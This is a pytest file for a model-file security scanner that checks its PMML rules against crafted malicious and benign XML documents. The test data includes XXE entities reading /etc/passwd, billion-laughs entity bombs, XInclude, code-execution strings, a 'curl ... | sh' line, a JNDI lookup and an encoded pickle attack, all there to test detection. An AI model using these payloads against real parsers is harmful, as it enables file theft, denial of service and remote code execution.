"""PMML: each rule with a document that fires it and one next to it that does not."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelaudit.blob import BytesBlob, RootBlob
from modelaudit.engine import inspect
from modelaudit.errors import Missing
from modelaudit.model import Severity
from tests.scanners.streams import ATTACK, look

NAMESPACE = 'xmlns="http://www.dmg.org/PMML-4_4" version="4.4"'
SCHEMA = (
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    ' xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/v4-4/pmml-4-4.xsd"'
)
HEADER = (
    '<Header copyright="Copyright (c) 2026 someone" description="Tree (rpart), 10 folds; see http://example.org">'
    '<Extension name="user" value="me" extender="Rattle/PMML"/><Application name="SkLearn2PMML" version="0.1"/>'
    "<Timestamp>2026-01-01T00:00:00Z</Timestamp><Annotation>Fitted by exec (once), evaluated twice.</Annotation>"
    "</Header>"
)
BODY = (
    '<DataDictionary numberOfFields="1"><DataField name="Sepal.Length (cm) &lt;x&gt;" dataType="double"/>'
    '<DataField name="javascript" dataType="string"><Value value="system=on"/></DataField></DataDictionary>'
    '<TransformationDictionary><DerivedField name="x"><Apply function="x-python-like"><Apply function="uppercase"/>'
    '<Constant dataType="double">1.5e-3</Constant></Apply></DerivedField></TransformationDictionary>'
    '<RegressionModel functionName="regression" modelName="a.b.C"><MiningSchema><MiningField name="file://"/>'
    '</MiningSchema><Array type="real" n="3">1 2 3</Array></RegressionModel>'
)


def pmml(inside: str = "", before: str = "", root: str = f"{NAMESPACE} {SCHEMA}") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<PMML {root}>{HEADER}{BODY}{inside}</PMML>\n'.encode()


def rules(data: bytes) -> set[str]:
    return {finding.rule.removeprefix("pmml-") for finding in look(data).findings}


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
CODE = "__import__('os').system('echo modelaudit-sample')"

FIRING: dict[str, tuple[str, bytes]] = {
    "external entity": ("external-entity", pmml("&x;", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    "public entity": ("external-entity", pmml("", '<!DOCTYPE PMML [<!ENTITY x PUBLIC "p" "http://e.org/">]>')),
    "parameter entity": ("external-entity", pmml("", '<!DOCTYPE p [<!ENTITY % x SYSTEM "http://e.org/a.dtd"> %x;]>')),
    "entity behind a parameter entity": (
        "external-entity", pmml("", '<!DOCTYPE p [<!ENTITY % a "b"> %a; <!ENTITY x SYSTEM "file:///x">]>'),
    ),
    "UTF-16 entity": (
        "external-entity",
        pmml("", '<!DOCTYPE p [<!ENTITY x SYSTEM "file:/x">]>').replace(b"UTF-8", b"UTF-16").decode().encode("utf-16"),
    ),
    "billion laughs": ("entity-bomb", pmml("&l9;", f'<!DOCTYPE PMML [<!ENTITY l0 "lol">{LAUGHS}]>')),
    "laughs backwards": ("entity-bomb", pmml("&l9;", f'<!DOCTYPE PMML [{LAUGHS}<!ENTITY l0 "lol">]>')),
    "entity in itself": ("entity-bomb", pmml("&a;", '<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')),
    "entity": ("doctype", pmml("&a;", '<!DOCTYPE PMML [<!ENTITY a "x">]>')),
    "defaults": ("doctype", pmml("", '<!DOCTYPE PMML [<!ATTLIST Apply function CDATA "x">]>')),
    "outside DTD": ("doctype", pmml("", '<!DOCTYPE PMML SYSTEM "http://example.org/x.dtd">')),
    "noise in a DOCTYPE": ("doctype", b"<!DOCTYPE PMML [" + b"x" * 100 + b"]><PMML/>"),
    "XInclude": ("inclusion", pmml('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')),
    "XSLT": ("inclusion", pmml('<x:value-of xmlns:x="http://www.w3.org/1999/XSL/Transform" select="1"/>')),
    "style sheet": ("inclusion", pmml("", '<?xml-stylesheet href="http://example.org/x.xsl" type="text/xsl"?>')),
    "UTF-7": ("encoding", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-PMML version=+ACI-4.4+ACI-/+AD4-'),
    "UTF-32": ("encoding", pmml().decode().replace("UTF-8", "UTF-32").encode("utf-32")),
    "script element": ("script", pmml("<Extension><script>x</script></Extension>")),
    "script with prefix": ("script", pmml('<Extension><h:Script xmlns:h="urn:h">x</h:Script></Extension>')),
    "script by name": ("script", pmml('<Extension name="script" value="x"/>')),
    "code in text": ("code", pmml(f"<Extension>{CODE}</Extension>")),
    "code in CDATA": ("code", pmml(f"<Extension><![CDATA[{CODE}]]></Extension>")),
    "code in pieces": ("code", pmml("<Extension>__impo<![CDATA[rt__(]]>'os')</Extension>")),
    "code in an attribute": ("code", pmml('<Extension name="a" value="java.lang.Runtime.getRuntime().exec(x)"/>')),
    "code in a description": ("code", pmml("<Annotation>curl http://example.org/x | sh</Annotation>")),
    "jndi": ("code", pmml('<Extension name="a" value="${jndi:ldap://example.org/a}"/>')),
    "system class": ("function", pmml('<Apply function="java.lang.Runtime.exec"/>')),
    "script engine": ("function", pmml('<Apply function="javax.script.ScriptEngineManager"/>')),
    "class of a library": ("outside-function", pmml('<Apply function="com.example.MyFunction"/>')),
    "file": ("reference", pmml('<Extension name="a" value="file:///etc/passwd"/>')),
    "href": ("reference", pmml('<Extension href="http://example.org/x"/>')),
    "share": ("reference", pmml('<Extension path="\\\\host\\share"/>')),
    "appended": ("trailing", pmml() + b"\0more"),
    "no version": ("version", pmml(root="")),
}  # fmt: skip

SILENT: dict[str, bytes] = {
    "as tools write it": pmml(),
    "with a prefix": b'<?xml version="1.0"?><p:PMML xmlns:p="http://www.dmg.org/PMML-4_3" version="4.3"/>',
    "latin-1": '<?xml version="1.0" encoding="ISO-8859-1"?><PMML version="3"><Header copyright="\xa9"/></PMML>'.encode(
        "latin-1"
    ),
    "UTF-16": pmml().decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    "a tree of a thousand levels": pmml("<Node>" * 1000 + "</Node>" * 1000),
    "comments and instructions": pmml("<!-- <script> --><?oxygen x?>", "<!-- <!DOCTYPE x> --><?oxygen RNGSchema='x'?>"),
    "numbers that look like base64": pmml(f'<Extension name="hash" value="{"ab12" * 16}"/>'),
}


@pytest.mark.parametrize("name", FIRING)
def test_a_danger_is_found(name: str) -> None:
    """The rule fires, whatever else does."""
    rule, data = FIRING[name]
    assert rule in rules(data)


@pytest.mark.parametrize("name", SILENT)
def test_an_ordinary_document_is_silent(name: str) -> None:
    """Nothing is said, and it was scanned."""
    found = look(SILENT[name])
    assert found.findings == ()
    assert (found.status, "pmml" in found.formats) == ("scanned", True)


def test_the_old_dtd_is_a_mere_note() -> None:
    """PMML 1 and 2 asked for the DOCTYPE of the Data Mining Group."""
    found = look(pmml("", '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'))
    assert [finding.severity for finding in found.findings] == [Severity.INFO]


@pytest.mark.parametrize("value", [base64.b64encode(ATTACK).decode(), ATTACK.hex()])
def test_a_pickle_in_an_extension_is_found(value: str) -> None:
    """In an attribute and in text."""
    for inside in (f'<Extension name="a" value="{value}"/>', f"<Extension>{value}</Extension>"):
        assert "critical" in {finding.severity for finding in look(pmml(inside)).findings}


def test_other_xml_is_not_claimed() -> None:
    """The root decides."""
    for data in (b"<a/>", b"<?xml version='1.0'?><net><PMML/></net>", b"PMML", b"{}"):
        assert "pmml" not in look(data).formats


def test_half_a_document_is_not_called_whole() -> None:
    """Cut anywhere, it is partial; and bytes that are not here are asked for."""
    data = pmml()
    for length in range(data.index(b"<PMML") + 5, len(data) - 8, 7):
        assert inspect(BytesBlob(data[:length])).status == "partial"
        with pytest.raises(Missing):
            inspect(RootBlob(data[:length], len(data), [(0, length)]))


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_it_survives_mutation(data: st.DataObject) -> None:
    """Whatever a few changed bytes make of it, there is an answer."""
    document = bytearray(FIRING["laughs backwards"][1])
    for _ in range(data.draw(st.integers(1, 6))):
        document[data.draw(st.integers(0, len(document) - 1))] = data.draw(st.integers(0, 255))
    assert inspect(BytesBlob(bytes(document))).status in ("scanned", "partial", "skipped")
